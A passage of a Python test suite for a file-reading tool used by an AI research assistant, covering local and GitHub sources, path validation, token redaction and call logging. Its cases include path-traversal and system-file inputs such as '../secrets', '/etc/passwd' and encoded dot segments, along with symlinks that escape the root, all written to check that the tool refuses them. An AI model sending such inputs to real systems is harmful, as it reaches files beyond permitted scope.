    return read, lambda path, data: github.answer(on_github(data), path=f"{CONTENTS}docs/ideas/{path}")


@pytest.mark.parametrize(
    ("data", "content"),
    [
        ("# Märkte".encode(), "# Märkte"),
        (b"", ""),
        (b"x" * MAX_BYTES, "x" * MAX_BYTES),
        ("See\u200b https://example.org/x\U000e0041".encode(), "See https://example.org/x"),
    ],
)
def test_a_file_gives_its_content_and_its_bytes(place: Any, data: bytes, content: str) -> None:
    """Without characters that nobody can see; addresses in it may be fetched."""
    read, put = place
    put("market/2024-06.md", data)
    output, found = read(" market/2024-06.md\n")
    assert found == {"ok": True, "content": content, "bytes": len(data)}
    assert output.log["bytes"] == len(data) and output.log["path"].strip() == "market/2024-06.md"
    assert output.panel_data == content and output.urls == (("https://example.org/x",) if "https" in content else ())


@pytest.mark.parametrize(
    ("path", "error_type", "message"),
    [
        ("missing.md", "file_not_found", "File not found: missing.md"),
        ("market", "api_error", "Path is not a file: market"),
        ("large.md", "file_too_large", TOO_LARGE),
        ("latin.md", "api_error", "Failed to read file: it is not UTF-8 text"),
        ("../secrets", "path_validation", "'..' and backslashes"),
        ("/etc/passwd", "path_validation", "must be relative"),
        ("foo\\bar.md", "path_validation", "'..' and backslashes"),
        ("%2e%2e/secrets", "path_validation", "'%' is not allowed"),
        ("ideas/market.md", "path_validation", "must not start with 'ideas/'"),
        ("market/", "path_validation", "must not end with '/'"),
        ("market//file.md", "path_validation", "'//' is not allowed"),
        ("a" * 201, "path_validation", "longer than 200 characters"),
        ("a\x00b", "path_validation", "control characters"),
        (" ", "path_validation", "it is empty"),
        ("ä.md", "path_validation", "letters, digits"),
    ],
)
def test_a_failure_has_one_of_four_types_and_says_what_to_do(
    place: Any, github: Scripted, path: str, error_type: str, message: str
) -> None:
    """The cases of seed 001. The log names the type; for a path that breaks a rule nothing is looked for."""
    read, put = place
    put("large.md", b"x" * (MAX_BYTES + 1))
    put("latin.md", b"\xff\xfe")
    output, found = read(path)
    assert (found["ok"], found["error_type"]) == (False, error_type) and message in found["message"]
    assert output.log["error_type"] == error_type and (error_type != "path_validation" or github.requests == [])


def test_links_pipes_and_devices_in_a_folder_are_refused(tmp_path: Path) -> None:
    """Links neither as the file nor on the way; a pipe would keep its reader waiting for ever."""
    root = tmp_path / "root"
    root.mkdir()
    (tmp_path / "secret.md").write_text("text")
    (root / "away").symlink_to(tmp_path)
    (root / "out.md").symlink_to(tmp_path / "secret.md")
    os.mkfifo(root / "pipe")
    for path in ("out.md", "away/secret.md", "away", "pipe"):
        assert reader("root", tmp_path)(path)[1]["message"] == f"Path is not a file: {path}"


def test_github_is_asked_for_the_path_at_the_ref_with_a_token_that_is_never_shown(
    github: Scripted, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    github.answer({"message": f"no, {TOKEN}"}, status=403, path=f"{CONTENTS}docs/a.md")
    output, found = reader("github:acme/research/docs@release/2", tmp_path)("a.md")
    assert found["error_type"] == "api_error" and "403" in found["message"] and TOKEN not in output.text
    (request,) = github.requests
    assert request.params["ref"] == "release/2" and request.headers["authorization"] == f"Bearer {TOKEN}"


@pytest.mark.parametrize(
    ("changed", "told"),
    [
        ({"size": None}, "did not send its size"),
        ({"type": "symlink", "target": "x"}, "not a file"),
        ({"submodule_git_url": "git://x"}, "not a file"),
        ({"size": 2_000_000, "content": "", "encoding": "none"}, TOO_LARGE),
        ({"encoding": "rot13", "content": "!"}, "0 bytes where 1 were announced"),
    ],
)
def test_what_is_no_plain_file_on_github_is_refused(github: Scripted, tmp_path: Path, changed: Any, told: str) -> None:
    github.answer(on_github(b"x", **changed), path=f"{CONTENTS}a.md")
    _, found = reader("github:acme/research", tmp_path)("a.md")
    assert not found["ok"] and told in found["message"]


def test_it_is_offered_whenever_a_root_is_set_and_its_calls_are_logged(
    messages_api: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Seed 001's log: path, bytes, error type and milliseconds of each call are in `answer.steps`."""
    (tmp_path / "market.md").write_text("The market grew by 7 %.")
    monkeypatch.setenv("IPY_WEBSEARCH_RESEARCH_ROOT", str(tmp_path))
    calls = [tool_use("read_research", {"path": path}) for path in ("market.md", "../a.md")]
    messages_api.replies(calls, "Done.")
    steps = web.ask("Who?").steps.query("name == 'read_research'").set_index("path")
    assert [tool["name"] for tool in messages_api.bodies[0]["tools"]] == ["web_search", "web_fetch", "read_research"]
    assert [result.get("is_error", False) for result in results_of(messages_api.bodies[-1])] == [False, True]
    assert steps.bytes["market.md"] == 23 and steps.error_type["../a.md"] == "path_validation"
    assert (steps.milliseconds >= 0).all()


@pytest.mark.parametrize("root", ["nowhere", "github:acme", "github:acme/../x"])
def test_a_root_that_is_none_is_a_setting_to_correct(root: str, tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="research_root"):
        reader(root, tmp_path)
